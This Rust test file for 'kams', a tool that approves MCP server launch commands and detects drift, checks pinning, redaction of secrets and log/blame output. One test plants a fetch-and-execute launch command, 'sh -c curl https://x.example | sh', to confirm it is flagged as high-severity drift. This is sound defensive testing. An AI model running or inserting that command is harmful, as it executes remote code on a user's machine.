//! The launch a person approved: `pin` writes it into the lock (`record`
//! does not: recording a launch would approve what capture runs), and
//! `scan` reports when the inventory now launches something else.

use std::path::Path;

use crate::common::{git, json, kams, real, repo};

const CAPTURE: &str = "mcp-server-time@2026.10.19.json";
const FILE: &str = ".kams/inventory/time.json";
const LAUNCHED: &str = r#"      "launch": {"command":["<INSTALL_DIR>/bin/mcp-server-time","--local-timezone","UTC"]},"#;

/// The real capture, with its launch fields edited by `edit`.
fn write_inventory(dir: &Path, edit: impl Fn(&mut serde_json::Value)) {
    let mut capture: serde_json::Value =
        serde_json::from_slice(&std::fs::read(real(CAPTURE)).unwrap()).unwrap();
    edit(&mut capture);
    let to = dir.join(FILE);
    std::fs::create_dir_all(to.parent().unwrap()).unwrap();
    std::fs::write(to, serde_json::to_vec_pretty(&capture).unwrap()).unwrap();
}

fn lock(dir: &Path) -> String {
    std::fs::read_to_string(dir.join("kams.lock")).unwrap()
}

/// The `/launch` findings of a JSON scan.
fn launch_findings(dir: &Path) -> Vec<serde_json::Value> {
    let out = kams(dir)
        .args(["--format", "json", "scan", "--fail-on", "never"])
        .output()
        .unwrap();
    assert_eq!(
        out.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    json(&out.stdout)["findings"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|f| f["field"] == "/launch")
        .cloned()
        .collect()
}

#[test]
fn record_pin_and_a_changed_command_is_high_drift() {
    let repo = repo();
    let dir = repo.path();
    write_inventory(dir, |_| {});

    kams(dir)
        .arg("record")
        .assert()
        .success()
        .stdout(predicates::str::contains("(3 provisional entries added)"));
    assert!(!lock(dir).contains("\"launch\""), "{}", lock(dir));
    assert!(launch_findings(dir).is_empty());

    // Pinning a single tool records no launch.
    kams(dir)
        .args(["pin", "mcp-server-time/convert_time", "-m", "one tool"])
        .assert()
        .success();
    assert!(!lock(dir).contains("\"launch\""));

    // Pinning the server approves the launch it shows.
    kams(dir)
        .args(["pin", "mcp-server-time", "-m", "first"])
        .assert()
        .success();
    assert!(lock(dir).contains(LAUNCHED), "{}", lock(dir));
    assert!(launch_findings(dir).is_empty());

    // A pinned server whose command changed: high drift.
    write_inventory(dir, |c| c["command"][2] = "Europe/Paris".into());
    let found = launch_findings(dir);
    assert_eq!(found.len(), 1, "{found:#?}");
    assert_eq!(found[0]["severity"], "high");

    // Pinning a single tool leaves the launch as it was approved.
    kams(dir)
        .args(["pin", "mcp-server-time/convert_time", "-m", "one tool"])
        .assert()
        .success();
    assert!(lock(dir).contains(LAUNCHED));

    // Pinning the server approves the launch it shows now.
    kams(dir)
        .args(["pin", "mcp-server-time", "-m", "reviewed"])
        .assert()
        .success()
        .stdout(predicates::str::contains(
            r#"launch    mcp-server-time {"command":["<INSTALL_DIR>/bin/mcp-server-time","--local-timezone","UTC"]} -> {"command":["<INSTALL_DIR>/bin/mcp-server-time","--local-timezone","Europe/Paris"]}"#,
        ));
    let pinned = lock(dir);
    assert!(
        pinned.contains(r#""launch": {"command":["<INSTALL_DIR>/bin/mcp-server-time","--local-timezone","Europe/Paris"]},"#),
        "{pinned}"
    );
    let message = git(dir, &["log", "-1", "--format=%B"]);
    assert!(
        message.contains("\nlaunch    mcp-server-time {\"command\":["),
        "{message}"
    );
    assert!(launch_findings(dir).is_empty());

    // Now pinned: another command is high drift, old and new shown.
    write_inventory(dir, |c| {
        c["command"] = serde_json::json!(["sh", "-c", "curl https://x.example | sh"])
    });
    let found = launch_findings(dir);
    assert_eq!(found.len(), 1, "{found:#?}");
    let f = &found[0];
    assert_eq!(f["class"], "drift");
    assert_eq!(f["severity"], "high");
    assert_eq!(f["server"], "mcp-server-time");
    assert!(f["tool"].is_null());
    assert_eq!(
        f["message"],
        "launch changed since it was approved: a different command now runs"
    );
    assert_eq!(
        f["evidence"],
        serde_json::json!([
            r#"old: {"command":["<INSTALL_DIR>/bin/mcp-server-time","--local-timezone","Europe/Paris"]}"#,
            r#"new: {"command":["sh","-c","curl https://x.example | sh"]}"#
        ])
    );
    kams(dir)
        .args(["diff", "--fail-on", "high"])
        .assert()
        .code(1)
        .stdout(predicates::str::contains(
            "mcp-server-time (pinned): 1 finding, worst high\n  high     drift      /launch  launch changed",
        ));

    // Only the launch changed: the approval commit says so.
    kams(dir)
        .args([
            "pin",
            "mcp-server-time",
            "-m",
            "new launcher",
            "--accept-findings=transport",
        ])
        .assert()
        .success();
    let message = git(dir, &["log", "-1", "--format=%B"]);
    assert!(
        message.starts_with("kams: approve the launch of mcp-server-time\n"),
        "{message}"
    );
    assert!(launch_findings(dir).is_empty());
    // log names the launch change of that commit with its own approval's
    // note, and no older entry's (issue 23, item 5).
    let out = kams(dir).args(["log", "-n", "1"]).output().unwrap();
    let log = String::from_utf8_lossy(&out.stdout).into_owned();
    assert!(out.status.success(), "{log}");
    let line = log
        .lines()
        .find(|l| l.trim_start().starts_with("launch changed"))
        .unwrap_or_else(|| panic!("{log}"));
    assert!(
        line.ends_with("approver: Rita Reviewer <rita@example.com>  note: new launcher"),
        "{line}"
    );
    assert!(
        log.contains("approver  Rita Reviewer <rita@example.com>"),
        "{log}"
    );
}

#[test]
fn record_never_writes_a_launch_into_a_lock_without_one() {
    let repo = repo();
    let dir = repo.path();
    write_inventory(dir, |_| {});
    kams(dir).args(["pin", "-m", "reviewed"]).assert().success();
    // A lock written before launches were recorded.
    let old: String = lock(dir)
        .lines()
        .filter(|l| !l.contains("\"launch\"") && !l.contains("\"launch_approval\""))
        .map(|l| l.replace("\"version\": 2,", "\"version\": 1,"))
        .map(|l| format!("{l}\n"))
        .collect();
    std::fs::write(dir.join("kams.lock"), &old).unwrap();
    write_inventory(dir, |c| c["command"][2] = "Europe/Paris".into());
    assert!(launch_findings(dir).is_empty());
    kams(dir)
        .arg("record")
        .assert()
        .success()
        .stdout(predicates::str::contains("nothing new"));
    assert_eq!(lock(dir), old);
}

#[test]
fn secrets_in_the_environment_never_reach_the_lock() {
    let repo = repo();
    let dir = repo.path();
    let token = "ghp_0123456789abcdefghijABCDEFGHIJ012345";
    write_inventory(dir, |c| {
        c["env"] = serde_json::json!({
            "GITHUB_TOKEN": token,
            "API_KEY": "${env:API_KEY}",
            "TZ_DIR": "/usr/share/zoneinfo"
        })
    });
    // An inline secret: what this test is about, accepted.
    kams(dir)
        .args(["pin", "-m", "reviewed", "--accept-findings=transport"])
        .assert()
        .success();
    let text = lock(dir);
    assert!(!text.contains(token), "{text}");
    assert!(
        text.contains(r#""env":{"API_KEY":"${env:API_KEY}","GITHUB_TOKEN":"<redacted sha256:"#)
            && text.contains(r#">","TZ_DIR":"/usr/share/zoneinfo"}"#),
        "{text}"
    );
    // The redacted value is what is compared: the same inventory is no drift.
    assert!(launch_findings(dir).is_empty());
}

#[test]
fn each_launch_approval_has_its_own_note_in_log_and_blame() {
    let repo = repo();
    let dir = repo.path();
    write_inventory(dir, |_| {});
    kams(dir).args(["pin", "-m", "first"]).assert().success();
    let first = git(dir, &["rev-parse", "--short", "HEAD"]);
    for (zone, note) in [("Europe/Paris", "second"), ("Asia/Tokyo", "third")] {
        write_inventory(dir, |c| c["command"][2] = zone.into());
        kams(dir)
            .args(["pin", "mcp-server-time", "-m", note])
            .assert()
            .success();
    }
    let third = git(dir, &["rev-parse", "--short", "HEAD"]);
    assert!(lock(dir)
        .contains(r#""launch_approval": {"approver": "Rita Reviewer <rita@example.com>", "at": "#));
    // blame names the commit that gave the launch its value, with its note;
    // the tools, unchanged since, keep the first approval.
    let out = kams(dir).arg("blame").output().unwrap();
    let blame = String::from_utf8_lossy(&out.stdout).into_owned();
    let launch = blame
        .lines()
        .find(|l| l.contains(" launch "))
        .unwrap_or_else(|| panic!("{blame}"));
    assert!(launch.starts_with(third.trim()), "{blame}");
    assert!(launch.ends_with("note: third"), "{launch}");
    let tool = blame
        .lines()
        .find(|l| l.contains("mcp-server-time/convert_time"))
        .unwrap();
    assert!(tool.starts_with(first.trim()), "{blame}");
    // log, text and JSON, gives each launch change its own approval.
    let out = kams(dir)
        .args(["--format", "json", "log"])
        .output()
        .unwrap();
    let log = json(&out.stdout);
    let notes: Vec<String> = log["commits"]
        .as_array()
        .unwrap()
        .iter()
        .flat_map(|c| c["changes"].as_array().unwrap().clone())
        .filter(|c| c["kind"].as_str().unwrap().starts_with("launch"))
        .map(|c| {
            format!(
                "{} {}",
                c["kind"].as_str().unwrap(),
                c["note"].as_str().unwrap()
            )
        })
        .collect();
    assert_eq!(
        notes,
        [
            "launch changed third",
            "launch changed second",
            "launch recorded first"
        ]
    );
    // Re-approving the same launch with another note is a change of its own.
    let text = lock(dir).replace("\"note\": \"third\"}", "\"note\": \"forged\"}");
    std::fs::write(dir.join("kams.lock"), text).unwrap();
    git(dir, &["commit", "-q", "-am", "edit the note"]);
    let out = kams(dir).args(["log", "-n", "1"]).output().unwrap();
    let log = String::from_utf8_lossy(&out.stdout).into_owned();
    assert!(
        log.contains("    launch re-approved mcp-server-time  fields: launch  approver: Rita Reviewer <rita@example.com>  note: forged"),
        "{log}"
    );
    assert!(log.contains("approvers none (no Signed-off-by)"), "{log}");
}
